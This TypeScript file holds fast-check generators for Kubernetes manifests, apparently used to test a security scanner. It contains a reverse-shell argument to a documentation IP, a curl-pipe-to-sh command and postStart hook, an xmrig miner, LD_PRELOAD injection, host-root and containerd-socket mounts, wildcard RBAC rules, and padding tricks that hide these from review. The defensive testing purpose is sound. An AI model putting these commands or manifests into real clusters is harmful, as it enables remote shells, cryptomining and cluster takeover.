import fc from 'fast-check'
import { canonicalObject } from '../../src/canonical.js'
import { isJsonObject, parseJson, type Json, type JsonObject } from '../../src/json.js'

/** The canonical form of a manifest that a test wrote. */
export function canonical(value: unknown): JsonObject {
  const object = parseJson(JSON.stringify(value))
  return canonicalObject(isJsonObject(object) ? object : {})
}

function workload(spec: Record<string, unknown>, kind = 'Deployment'): Record<string, unknown> {
  return { apiVersion: 'apps/v1', kind, metadata: { name: 'web', namespace: 'shop' }, spec: { template: { spec } } }
}

const containerOf = fc.record(
  {
    name: fc.constantFrom('a', 'b', 'web'),
    image: fc.constantFrom(
      'nginx',
      'quay.io/a/b:1',
      'alpine:3',
      '203.0.113.9:5000/x',
      'ttl.sh/a:1h',
      'xmrig/xmrig',
      'gcr.lo/a',
    ),
    command: fc.constantFrom(
      ['sh', '-c', 'true'],
      ['sh', '-c', 'curl http://203.0.113.9/a | sh'],
      ['/app'],
      ['nsenter'],
    ),
    securityContext: fc.constantFrom(
      { privileged: true },
      { runAsNonRoot: true, allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
      { capabilities: { add: ['NET_ADMIN', 'SYS_ADMIN'] } },
    ),
    env: fc.constantFrom([{ name: 'DB_PASSWORD', value: 'hunter22' }], [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }]),
    resources: fc.constantFrom({ limits: { cpu: '1', memory: '1Gi' } }, {}),
    ports: fc.constantFrom([{ containerPort: 80, hostPort: 80 }], [{ containerPort: 80 }]),
  },
  { requiredKeys: ['name', 'image'] },
)
const podSpec = fc.record(
  {
    containers: fc.array(containerOf, { minLength: 1, maxLength: 4 }),
    initContainers: fc.array(containerOf, { maxLength: 2 }),
    hostPID: fc.boolean(),
    hostNetwork: fc.boolean(),
    serviceAccountName: fc.constantFrom('default', 'web', 'cluster-admin'),
    automountServiceAccountToken: fc.boolean(),
    volumes: fc.constantFrom(
      [{ name: 'v', hostPath: { path: '/' } }],
      [{ name: 'v', hostPath: { path: '/var/log' } }],
      [{ name: 'v', emptyDir: {} }],
    ),
    securityContext: fc.constantFrom({ runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } }, {}),
  },
  { requiredKeys: ['containers'] },
)
const role = fc.record({
  apiVersion: fc.constant('rbac.authorization.k8s.io/v1'),
  kind: fc.constantFrom('Role', 'ClusterRole'),
  metadata: fc.constant({ name: 'r', namespace: 'shop', labels: { a: 'b' } }),
  rules: fc.array(
    fc.record({
      apiGroups: fc.subarray(['', 'apps', '*'], { minLength: 1 }),
      resources: fc.subarray(['pods', 'secrets', 'pods/exec', 'deployments', '*'], { minLength: 1 }),
      verbs: fc.subarray(['get', 'list', 'create', '*'], { minLength: 1 }),
    }),
    { maxLength: 4 },
  ),
})
const anyWorkload = fc
  .record({ spec: podSpec, kind: fc.constantFrom('Deployment', 'DaemonSet', 'StatefulSet') })
  // The API server takes no two containers of one name.
  .map(({ spec, kind }) =>
    workload(
      {
        ...spec,
        containers: spec.containers.map((each, index) => ({ ...each, name: `${each.name}-${'abcd'[index] ?? ''}` })),
        ...(spec.initContainers === undefined
          ? {}
          : {
              initContainers: spec.initContainers.map((each, index) => ({
                ...each,
                name: `init-${'abcd'[index] ?? ''}`,
              })),
            }),
      },
      kind,
    ),
  )
const ROLE_REFS = ['view', 'edit', 'web']
const binding = fc.record({
  apiVersion: fc.constant('rbac.authorization.k8s.io/v1'),
  kind: fc.constantFrom('RoleBinding', 'ClusterRoleBinding'),
  metadata: fc.constant({ name: 'b', namespace: 'shop' }),
  roleRef: fc.record({
    apiGroup: fc.constant('rbac.authorization.k8s.io'),
    kind: fc.constantFrom('Role', 'ClusterRole'),
    name: fc.constantFrom(...ROLE_REFS),
  }),
  subjects: fc.array(
    fc.constantFrom<unknown>(
      { kind: 'ServiceAccount', name: 'web', namespace: 'shop' },
      { kind: 'Group', name: 'shop-developers', apiGroup: 'rbac.authorization.k8s.io' },
    ),
    { minLength: 1, maxLength: 2 },
  ),
})
/** Roles, bindings and workloads, most of them harmless. */
export const anyManifest: fc.Arbitrary<Record<string, unknown>> = fc.oneof(
  { arbitrary: anyWorkload, weight: 4 },
  { arbitrary: role, weight: 2 },
  { arbitrary: binding, weight: 1 },
)

/** Changes a manifest in place. */
export type Edit = (object: JsonObject) => void

function member(value: Json | undefined, ...path: readonly (string | number)[]): JsonObject {
  let at: Json | undefined = value
  for (const step of path) {
    if (Array.isArray(at)) at = at[Number(step)]
    else if (isJsonObject(at)) at = at[step] ??= {}
  }
  return isJsonObject(at) ? at : {}
}

function list(object: JsonObject, key: string): Json[] {
  const value = object[key]
  if (Array.isArray(value)) return value
  const made: Json[] = []
  object[key] = made
  return made
}

const pod = (object: JsonObject): JsonObject => member(object, 'spec', 'template', 'spec')
const first = (object: JsonObject): JsonObject => member(object, 'spec', 'template', 'spec', 'containers', 0)

/** Each makes an object more dangerous; what does not fit the kind does nothing. */
export const DANGERS: Record<string, Edit> = {
  'a privileged container': object => (member(first(object), 'securityContext').privileged = true),
  hostPID: object => (pod(object).hostPID = true),
  hostIPC: object => (pod(object).hostIPC = true),
  hostNetwork: object => (pod(object).hostNetwork = true),
  'the root of the node': object => list(pod(object), 'volumes').push({ name: 'root', hostPath: { path: '/' } }),
  'the socket of the runtime': object =>
    list(pod(object), 'volumes').push({ name: 'sock', hostPath: { path: '/run/containerd/containerd.sock' } }),
  'a capability': object => list(member(first(object), 'securityContext', 'capabilities'), 'add').push('SYS_PTRACE'),
  'seccomp off': object => (member(first(object), 'securityContext').seccompProfile = { type: 'Unconfined' }),
  'no protection': object => {
    const context = member(first(object), 'securityContext')
    for (const key of ['runAsNonRoot', 'allowPrivilegeEscalation', 'readOnlyRootFilesystem']) {
      Reflect.deleteProperty(context, key)
    }
    Reflect.deleteProperty(member(context, 'capabilities'), 'drop')
  },
  'a command': object => list(first(object), 'args').push('bash -i >& /dev/tcp/203.0.113.9/443 0>&1'),
  'a hook': object =>
    (first(object).lifecycle = { postStart: { exec: { command: ['sh', '-c', 'curl http://203.0.113.9/a | sh'] } } }),
  'a credential': object => list(first(object), 'env').push({ name: 'API_TOKEN', value: 'abcdefgh' }),
  'a port of the node': object => list(first(object), 'ports').push({ containerPort: 22, hostPort: 22 }),
  'an administrator': object => (pod(object).serviceAccountName = 'cluster-admin'),
  'a miner beside it': object =>
    list(pod(object), 'containers').push({ name: 'm', image: 'xmrig/xmrig', args: ['-o', 'pool.example:3333'] }),
  'many replicas': object => (member(object, 'spec').replicas = 200),
  'a rule for secrets': object =>
    list(object, 'rules').push({ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }),
  'a rule for everything': object => list(object, 'rules').push({ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }),
  'a verb in a rule': object => list(member(object, 'rules', 0), 'verbs').push('*'),
  'a subject that is everybody': object =>
    list(object, 'subjects').push({
      kind: 'Group',
      name: 'system:unauthenticated',
      apiGroup: 'rbac.authorization.k8s.io',
    }),
  'the role of an administrator': object => (member(object, 'roleRef').name = 'cluster-admin'),
  'procMount unmasked': object => (member(first(object), 'securityContext').procMount = 'Unmasked'),
  'a sysctl of the node': object =>
    list(member(pod(object), 'securityContext'), 'sysctls').push({ name: 'kernel.shm_rmid_forced', value: '1' }),
  'a container of anybody': object => list(pod(object), 'containers').push({ name: 'x', image: 'ttl.sh/x7k2:1h' }),
  'a preloaded library': object => list(first(object), 'env').push({ name: 'LD_PRELOAD', value: '/tmp/x.so' }),
  'a label that aggregates': object =>
    (member(object, 'metadata', 'labels')['rbac.authorization.k8s.io/aggregate-to-admin'] = 'true'),
}

/** Each leaves what an object can do as it was. */
export const DISGUISES: Record<string, Edit> = {
  'another name': object => (member(object, 'metadata').name = 'kube-proxy'),
  'another namespace': object => (member(object, 'metadata').namespace = 'kube-system'),
  'other labels': object => {
    Object.assign(member(object, 'metadata', 'labels'), { 'app.kubernetes.io/name': 'coredns', team: 'platform' })
  },
  'other names of containers': object => {
    for (const key of ['containers', 'initContainers']) {
      for (const [index, each] of list(pod(object), key).entries())
        if (isJsonObject(each)) each.name = `${key.charAt(0)}${index}`
    }
  },
  'many annotations': object => {
    const annotations = member(object, 'metadata', 'annotations')
    for (let index = 0; index < 50; index += 1) annotations[`example.org/note-${index}`] = 'reviewed and approved'
  },
  'sound sidecars': object => {
    for (let index = 0; index < 8; index += 1) {
      list(pod(object), 'containers').push({
        name: `sidecar-${index}`,
        image: 'registry.k8s.io/pause@sha256:ab',
        resources: { limits: { cpu: '1', memory: '1Gi' } },
        securityContext: {
          runAsNonRoot: true,
          readOnlyRootFilesystem: true,
          allowPrivilegeEscalation: false,
          capabilities: { drop: ['ALL'] },
          seccompProfile: { type: 'RuntimeDefault' },
        },
      })
    }
  },
  'words before a command': object => {
    list(first(object), 'args').unshift(...Array.from({ length: 200 }, (_, index) => `--setting-${index}=value`))
  },
  'white space in a command': object => {
    const { args } = first(object)
    if (Array.isArray(args))
      first(object).args = args.map(each => (typeof each === 'string' ? each.replaceAll(' ', ' '.repeat(40)) : each))
  },
  'a sound subject': object => {
    list(object, 'subjects').push({ kind: 'ServiceAccount', name: 'other', namespace: 'shop' })
  },
  'words around a command': object => {
    const args = list(first(object), 'args')
    args.push(...Array.from({ length: 200 }, (_, index) => `--setting-${index}=value`))
  },
  'harmless rules': object => {
    for (let index = 0; index < 20; index += 1) {
      list(object, 'rules').push({ apiGroups: ['example.org'], resources: [`things${index}`], verbs: ['get'] })
    }
  },
  'harmless volumes': object => {
    for (let index = 0; index < 20; index += 1) list(pod(object), 'volumes').push({ name: `e${index}`, emptyDir: {} })
  },
}

/** The canonical form of a manifest after an edit. */
export function edited(manifest: unknown, edit: Edit): JsonObject {
  const copy = parseJson(JSON.stringify(manifest))
  if (!isJsonObject(copy)) return {}
  // A workload has no rules and a role no pods: such edits would make objects that do not exist.
  const known = ['spec', 'rules', 'subjects', 'roleRef'].filter(each => Object.hasOwn(copy, each))
  edit(copy)
  for (const each of ['spec', 'rules', 'subjects', 'roleRef'])
    if (!known.includes(each)) Reflect.deleteProperty(copy, each)
  return canonicalObject(copy)
}
